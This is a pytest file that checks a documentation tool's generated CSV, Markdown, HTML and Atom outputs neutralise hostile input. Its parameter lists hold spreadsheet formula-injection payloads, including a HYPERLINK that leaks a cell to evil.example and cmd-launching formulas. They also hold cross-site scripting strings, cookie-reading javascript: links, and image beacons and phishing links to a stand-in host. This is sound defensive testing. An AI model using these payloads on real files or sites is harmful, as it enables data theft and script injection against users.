"""Hostile text through `build` and `release` into the published files, end to end.

Each written file is read back by a parser of its format: the csv module for
``domains.csv``, markdown-it (raw HTML on, as GitHub and the Hugging Face Hub render) for
the Markdown, html.parser for ``crawlers.html``, expat for ``crawlers.atom``. What may be
there is written by hand: the templates' own elements, links to the sample's hosts.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from click.testing import Result
from markdown_it import MarkdownIt

from tests.hostile.parsed import elements
from tests.hostile.strings import FORMULA_START
from tests.releases import atom
from tests.releases._projects import CRAWLING, crawler, with_crawlers, write

Run = Callable[..., Result]
GFM = MarkdownIt("commonmark", {"html": True}).enable("table")
# Hosts the samples link to; "evil.example" is where every hostile link points.
HOSTS = {"lumen-ai.example", "a.example", "huggingface.co", "www.w3.org", "commission.europa.eu"}
PAGE_TAGS = {"html", "head", "meta", "title", "link", "body", "h1", "h2", "h3", "p", "ul", "li"}
PAGE_TAGS |= {"strong", "em", "a", "code"}
MD_TAGS = {"h1", "h2", "h3", "h4", "p", "ul", "ol", "li", "strong", "em", "a", "code", "br"}
MD_TAGS |= {"blockquote", "hr", "table", "thead", "tbody", "tr", "th", "td"}


def _build(project: Path, out: Path, run_cli: Run) -> None:
    result = run_cli("build", project, "--out", out, "--no-pdf", "--draft", "--as-of", "2026-11-21")
    assert result.exit_code == 0, result.output


def _hosts_linked(tags: list[tuple[str, dict[str, str | None]]]) -> set[str]:
    hrefs = [attrs.get("href") or "" for tag, attrs in tags if tag == "a"]
    assert all(urlsplit(h).scheme in ("http", "https", "mailto", "") for h in hrefs), hrefs
    return {urlsplit(h).hostname or "" for h in hrefs if urlsplit(h).scheme in ("http", "https")}


def _pipes(line: str) -> int:
    """The cell separators of a table row: pipes not escaped by a backslash."""
    count, escaped = 0, False
    for char in line:
        count += char == "|" and not escaped
        escaped = char == "\\" and not escaped
    return count


def _markdown_is_inert(text: str) -> None:
    """No element the templates do not write, no image, no link to a host of the attacker,
    and every table row exactly as wide as its header."""
    page = elements(GFM.render(text))
    assert {tag for tag, _ in page.tags} <= MD_TAGS, {tag for tag, _ in page.tags} - MD_TAGS
    assert _hosts_linked(page.tags) <= HOSTS
    header = 0
    for line in text.split("\n"):
        if not line.startswith("|"):
            header = 0
        elif header == 0:
            header = _pipes(line)
        else:
            assert _pipes(line) == header, line


# --- domains.csv and the domain table --------------------------------------------------

DOMAINS = [
    ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("cmd", "+cmd|' /C calc'!A0"),
    ("at-sum", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("minus", "-2+3"),
    ("tab", "\t=1+1"),
    ("cr", "\r=1+1"),
    ("blanks", "   =1+1"),
]


def _top(domains: list[str] | None = None, source: str | None = None) -> dict[str, Any]:
    patch = copy.deepcopy(CRAWLING)
    top = {"domains": domains} if domains is not None else {"source": source}
    patch["training_data_summary"]["section_2"]["crawled_data"]["top_domains"] = top
    return patch


def _summary_file(project: Path, domains: list[str]) -> None:
    top = [
        {"rank": i + 1, "domain": d, "size": 100 - i, "share": 0.01} for i, d in enumerate(domains)
    ]
    data = {
        "format": "gpai-docs-domains/1",
        "distinct_domains": 30,
        "listed_domains": len(top),
        "sme": None,
        "top": top,
    }
    (project / "stats").mkdir()
    (project / "stats" / "domains.json").write_text(json.dumps(data), encoding="utf-8")


@pytest.mark.parametrize("via", ["inline", "summary-json"])
@pytest.mark.parametrize(("name", "domain"), DOMAINS, ids=[n for n, _ in DOMAINS])
def test_formula_domains_are_text_in_domains_csv_and_a_finding(
    name: str, domain: str, via: str, tmp_path: Path, run_cli: Run
) -> None:
    listed = ["a.example", domain, "c.example"]
    if via == "inline":
        project = write(tmp_path / "project", _top(listed))
    else:
        project = write(tmp_path / "project", _top(source="stats/domains.json"))
        _summary_file(project, listed)
    report = json.loads(
        run_cli("validate", project, "--as-of", "2026-11-21", "--format", "json").output
    )
    ts020 = [d["path"] for d in report["diagnostics"] if d["code"] == "TS020"]
    top = "/section_2/crawled_data/top_domains"
    assert ts020 == [f"{top}/domains/1" if via == "inline" else f"{top}/source"]
    out = tmp_path / "out"
    _build(project, out, run_cli)
    [path] = out.glob("*.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    # Text fields of the documents are stripped (models/_types.Text); the file's are not.
    shown = "'" + (domain.strip() if via == "inline" else domain)
    assert rows == [["rank", "domain"], ["1", "a.example"], ["2", shown], ["3", "c.example"]]
    for _, cell in rows[1:]:
        assert not cell.lstrip().startswith(FORMULA_START)
    for md in out.glob("training-data-summary.*.md"):
        _markdown_is_inert(md.read_text(encoding="utf-8"))


# --- Markdown artifacts -----------------------------------------------------------------


def _named(name: str) -> dict[str, Any]:
    return {
        "model_documentation": {"general": {"model_name": {"name": name}}},
        "copyright_policy": {"document": {"models_covered": [name]}},
    }


def _licence(link: str) -> dict[str, Any]:
    return {"model_documentation": {"distribution": {"license_link": link}}}


def _dataset(link: str) -> dict[str, Any]:
    dataset = {"name": "FineWeb (2024-10 release)", "link": link, "modality": "Text"}
    public = {"used": "Yes", "modalities": ["Text"], "large_datasets": [dataset]}
    return {"training_data_summary": {"section_2": {"public_datasets": public}}}


def _canonical(url: str) -> dict[str, Any]:
    return {"training_data_summary": {"header": {"canonical_url": url}}}


MARKDOWN = [
    ("licence-pipe-image", _licence("https://a.example/x|![i](https://evil.example/p.png)")),
    ("licence-paren-image", _licence("https://a.example/x)![i](https://evil.example/p.png")),
    ("licence-javascript", _licence("javascript:alert(document.cookie)")),
    ("licence-angle-img", _licence("https://a.example/x><img src=x onerror=alert(1)>")),
    ("name-img", _named("Lumen <img src=x onerror=alert(1)>")),
    ("name-phishing-link", _named("Lumen [Log in](https://evil.example/login)")),
    ("name-pipes", _named("Lumen | x | ![i](https://evil.example/p.png)")),
    ("domain-image", _top(["a.example", "![x](https://evil.example/p.png)|x"])),
    ("purpose-script", with_crawlers(crawler(purpose="<script>alert(1)</script> | x"))),
    ("dataset-link-pipe", _dataset("https://huggingface.co/x|![i](https://evil.example/p.png)")),
    ("canonical-url-pipe", _canonical("https://a.example/s|[Log in](https://evil.example)")),
]


@pytest.mark.parametrize("patch", [p for _, p in MARKDOWN], ids=[n for n, _ in MARKDOWN])
def test_markdown_artifacts_hold_no_markup_of_the_provider(
    patch: dict[str, Any], tmp_path: Path, run_cli: Run
) -> None:
    project = write(tmp_path / "project", CRAWLING, patch)
    out = tmp_path / "out"
    _build(project, out, run_cli)
    written = sorted(out.glob("*.md"))
    assert len(written) >= 5
    for path in written:
        _markdown_is_inert(path.read_text(encoding="utf-8"))


# --- The crawler page, its feed and the changelog (release) -------------------------------


def _release(project: Path, out: Path, version: str, day: str, run_cli: Run) -> Path:
    args = ("--version", version, "--out", out, "--format", "md", "--date", day)
    result = run_cli("release", project, *args, "--slug", "lumen")
    assert result.exit_code == 0, result.output
    return out / "lumen"


def _notify(url: str) -> dict[str, Any]:
    note = {"not_applicable": None, "method": "Atom feed", "url": url}
    return {"copyright_policy": {"rights_reservation": {"change_notification": note}}}


IMG = "<img src=x onerror=alert(1)>"
FACTS = (
    *("User agent: ", "robots.txt product token: ", "Purpose: ", "Information page: "),
    *("Follows robots.txt: ", "robots.txt standard: ", "How robots.txt is followed: "),
    "Protocol: TDMRep: ",
)
CRAWLER_PAGE = [
    ("info-url-attribute-break", with_crawlers(crawler(info_url=f'https://a.example/">{IMG}'))),
    (
        "info-url-pipe-image",
        with_crawlers(crawler(info_url="https://a.example/x|![i](https://evil.example/p.png)")),
    ),
    ("notify-url-img-and-link", _notify(f"https://a.example/>{IMG}[Log in](https://evil.example)")),
    ("notify-url-paren-image", _notify("https://a.example/f)![i](https://evil.example/p.png")),
    ("notify-url-quote", _notify('https://a.example/"onmouseover="alert(1)')),
    (
        "purpose-link-and-img",
        with_crawlers(crawler(purpose=f"[Log in](https://evil.example) {IMG}")),
    ),
    (
        "purpose-fake-fact-line",
        with_crawlers(crawler(purpose="Text.\n- **Information page:** [x](https://evil.example)")),
    ),
    (
        "name-img",
        with_crawlers(crawler(name=f"Bot{IMG}", user_agent=f"Bot{IMG}/1.0", robots_token="Bot")),
    ),
    (
        "xml-illegal-characters",
        with_crawlers(crawler(user_agent="LumenBot/1.0 \x00\x1b[31m\ufffe\uffff ]]> &amp; <x/>")),
    ),
]


@pytest.mark.parametrize("patch", [p for _, p in CRAWLER_PAGE], ids=[n for n, _ in CRAWLER_PAGE])
def test_crawler_page_and_feed_hold_no_markup_or_links_of_the_provider(
    patch: dict[str, Any], tmp_path: Path, run_cli: Run
) -> None:
    project = write(tmp_path / "project", CRAWLING, patch)
    model = _release(project, tmp_path / "out", "1.0", "2026-10-01", run_cli)
    page = elements((model / "crawlers.html").read_text(encoding="utf-8"))
    assert {tag for tag, _ in page.tags} <= PAGE_TAGS, {t for t, _ in page.tags} - PAGE_TAGS
    assert _hosts_linked(page.tags) <= HOSTS
    assert [a for t, a in page.tags if t == "a" and urlsplit(a.get("href") or "").scheme == ""] == [
        {"href": "crawlers.atom"}
    ]
    markdown = (model / "crawlers.md").read_text(encoding="utf-8")
    _markdown_is_inert(markdown)
    # A line break in a value makes no fact of its own: each fact line of a change
    # starts with one of the labels crawlers.py gives.
    changes = markdown.split("## Changes", 1)[1]
    for line in changes.split("\n"):
        assert not line.startswith("  ") or line.startswith(
            tuple(f"  - {fact}" for fact in FACTS)
        ), line
    feed = (model / "crawlers.atom").read_bytes()
    assert atom.atom_problems(feed) == []  # expat parses it, and it is valid Atom
    root = ET.fromstring(feed)
    for content in root.iter(f"{atom.NS}content"):
        for line in (content.text or "").split("\n")[1:]:
            assert line.startswith(FACTS), line
    hrefs = [link.get("href") or "" for link in root.iter(f"{atom.NS}link")]
    assert all(urlsplit(h).scheme == "https" and urlsplit(h).hostname in HOSTS for h in hrefs)


def test_illegal_xml_characters_show_as_replacement_characters_in_the_feed(
    tmp_path: Path, run_cli: Run
) -> None:
    agent = "LumenBot/1.0 \x00\x1b[31m\ufffe\uffff ]]> &amp; <x/>"
    project = write(tmp_path / "project", CRAWLING, with_crawlers(crawler(user_agent=agent)))
    model = _release(project, tmp_path / "out", "1.0", "2026-10-01", run_cli)
    contents = [
        e.text or ""
        for e in ET.fromstring((model / "crawlers.atom").read_bytes()).iter(f"{atom.NS}content")
    ]
    assert any(
        "User agent: LumenBot/1.0 \ufffd\ufffd[31m\ufffd\ufffd ]]> &amp; <x/>" in c
        for c in contents
    )


CHANGES = [
    ("pipes-and-image", "Drafting | x | ![i](https://evil.example/p.png)"),
    ("html", "<img src=x onerror=alert(1)><script>alert(1)</script>"),
    ("link", "[Log in](https://evil.example/login)"),
    ("heading-and-list", "# Heading\n- item\n1. item"),
    ("table-row", "| a | b |\n|---|---|\n| c | d |"),
]


@pytest.mark.parametrize("value", [v for _, v in CHANGES], ids=[n for n, _ in CHANGES])
def test_changelog_table_keeps_its_columns(value: str, tmp_path: Path, run_cli: Run) -> None:
    out = tmp_path / "out"
    first = write(tmp_path / "v1", CRAWLING)
    _release(first, out, "1.0", "2026-10-01", run_cli)
    changed = {
        "model_documentation": {"document": {"version": "1.1.0"}, "use": {"intended_uses": value}}
    }
    second = write(tmp_path / "v2", CRAWLING, changed)
    model = _release(second, out, "1.1", "2026-11-01", run_cli)
    changelog = (model / "1.1" / "CHANGELOG.md").read_text(encoding="utf-8")
    assert "| changed |" in changelog
    _markdown_is_inert(changelog)


HISTORY_NAMES = [
    ("img", "Lumen <img src=x onerror=alert(1)>"),
    ("link", "Lumen [Log in](https://evil.example/login)"),
    ("pipes-image", "Lumen | x | ![i](https://evil.example/p.png)"),
    ("heading", "# Lumen"),
    ("html-comment", "Lumen <!-- x"),
]


@pytest.mark.parametrize("name", [n for _, n in HISTORY_NAMES], ids=[i for i, _ in HISTORY_NAMES])
def test_history_markdown_and_text_hold_the_model_name_literally(
    name: str, tmp_path: Path, run_cli: Run
) -> None:
    # A link in a crawler name is refused (TS006, an error that blocks the release), so
    # there the model name alone carries the hostile text.
    crawler_name = f"Bot{name}" if "://" not in name else "BotLumen"
    renamed = with_crawlers(crawler(name=crawler_name, user_agent=f"{crawler_name}/1"))
    project = write(tmp_path / "project", CRAWLING, _named(name), renamed)
    model = _release(project, tmp_path / "out", "1.0", "2026-10-01", run_cli)
    markdown = run_cli("history", model, "--format", "markdown")
    assert markdown.exit_code == 0, markdown.output
    _markdown_is_inert(markdown.output)
    text = run_cli("history", model)
    assert text.exit_code == 0 and name in text.output
